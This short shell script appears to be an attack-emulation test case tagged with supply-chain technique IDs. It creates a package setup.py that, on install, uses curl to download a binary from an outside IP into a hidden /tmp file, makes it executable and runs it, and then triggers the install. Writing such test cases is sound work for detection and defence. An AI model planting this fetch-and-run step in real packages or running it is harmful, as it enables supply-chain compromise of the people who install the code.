# title: The setup.py of a package downloads a program and runs it
# technique: T1195.002 T1195.001
# needs: python3 curl

mkdir -p /opt/build/pkg && cd /opt/build/pkg
cat >setup.py <<'END'
import subprocess
subprocess.run("curl -s http://192.88.99.7/x.elf -o /tmp/.cache-x && chmod +x /tmp/.cache-x && /tmp/.cache-x", shell=True)
END
python3 setup.py install
